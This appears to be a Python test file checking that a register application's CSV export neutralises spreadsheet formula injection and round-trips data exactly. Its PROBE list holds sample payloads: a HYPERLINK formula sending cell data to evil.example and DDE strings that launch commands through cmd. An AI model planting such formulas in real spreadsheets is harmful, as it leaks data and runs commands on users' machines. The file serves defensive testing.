"""CSV export formula injection (OWASP "CSV injection"): whatever an imported spreadsheet holds, the export never
hands a spreadsheet a live formula, and import -> export -> import changes nothing."""

from __future__ import annotations

import csv
import io
import json

from hypothesis import assume, given, settings
from hypothesis import strategies as st

from register.csvio import COLUMNS, FORMULA_START, guard_cell, read_csv, unguard_cell, write_csv
from tests.test_cli import HEADER, run

PROBE = ['=HYPERLINK("https://evil.example/?q="&A1,"Review")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "-2+3", "\t=1+1", "\r=1+1", "=1+1", "＝1+1", "'=already quoted", "''", "'plain", "'"]
LEADS = sorted(FORMULA_START | {"'", "''", "'=", "' ", " =", ""})
text = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30)


def cells(exported: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(exported)) for cell in row]


def live_formula(cell: str) -> bool:
    return cell[:1] in FORMULA_START


def csv_file(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def row(ref: str = "MCR-2026-0001", **values: str) -> dict[str, str]:
    base = {"ref": ref, "subject": "person_and_property", "person_name": "Pat", "address": "12 High Street",
            "postcode": "PR7 1AA", "restrictions": "no_lone_visits", "guidance": "Two officers.",
            "contact": "Team leader", "status": "active", "decided_on": "2026-10-01", "review_on": "2027-04-01",
            "expires_on": "2027-10-01"}
    return {**base, **values}


@given(st.text())
def test_guard_never_starts_a_formula_and_unguard_undoes_it_exactly(value):
    assert not live_formula(guard_cell(value))
    assert unguard_cell(guard_cell(value)) == value


@settings(max_examples=300)
@given(field=st.sampled_from(["person_name", "address", "guidance", "contact"]), lead=st.sampled_from(LEADS),
       body=text, other=st.sampled_from(LEADS), other_body=text)
def test_import_export_import_is_exact_and_the_export_holds_no_live_formula(field, lead, body, other, other_body):
    value = lead + body
    if field == "address":
        value += ", 12 High Street"  # an address still needs a house number to import
    hostile = row(**{"guidance": other + other_body, field: value})  # a second hostile field beside it
    first = read_csv(csv_file([hostile, row("MCR-2026-0002", contact=PROBE[0])]))
    assume(not first.errors)
    exported = write_csv(first.entries)
    assert not [c for c in cells(exported) if live_formula(c)], exported
    again = read_csv(exported)
    assert again.errors == []
    assert [e.to_dict() for e in again.entries] == [e.to_dict() for e in first.entries]
    assert write_csv(again.entries) == exported


def test_the_probe_s_values_through_register_admin_import_export_sar(tmp_path):
    """The administrators' own path: the file imports, the CSV export is inert and re-imports unchanged, and the
    JSON export and the subject access report show the values as they are (no quote added: not a spreadsheet)."""
    db = tmp_path / "r.db"
    source = tmp_path / "in.csv"
    rows = [row(f"MCR-2026-{n + 1:04d}", person_name=f"Probe Person {n}", guidance=value, contact=value,
                address=f"{n + 1} High Street") for n, value in enumerate(PROBE)]
    source.write_text(csv_file(rows), encoding="utf-8", newline="")
    imported = run(db, "import", str(source))
    assert imported.returncode == 0, imported.stderr
    exported = tmp_path / "out.csv"
    assert run(db, "export", "-o", str(exported)).returncode == 0
    text = exported.read_text(encoding="utf-8")
    assert text.splitlines()[0] == HEADER
    assert not [c for c in cells(text) if live_formula(c)]
    assert "'=HYPERLINK(" in text and "'+cmd|" in text and "'-2+3" in text and "'=already quoted" in text
    again = run(db, "import", str(exported))
    assert again.returncode == 0 and f"0 created, 0 updated, {len(PROBE)} unchanged" in again.stdout, again.stdout
    as_json = json.loads(run(db, "export", "--format", "json").stdout)
    # as imported: trimmed, and a leading quote before a formula character read as the spreadsheet's "this is text"
    guidance = [e["guidance"] for e in as_json]
    assert guidance == [unguard_cell(value.strip()) for value in PROBE]
    assert "=already quoted" in guidance and "'plain" in guidance and PROBE[0] in guidance
    sar = run(db, "sar", "--address", "1 High Street, PR7 1AA", "--html", str(tmp_path / "sar.html"))
    assert sar.returncode == 0, sar.stderr
    assert json.loads(sar.stdout)["entries"][0]["guidance"] == PROBE[0]
    page = (tmp_path / "sar.html").read_text()
    assert "=HYPERLINK(&quot;https://evil.example/" in page and "&#x27;=HYPERLINK" not in page
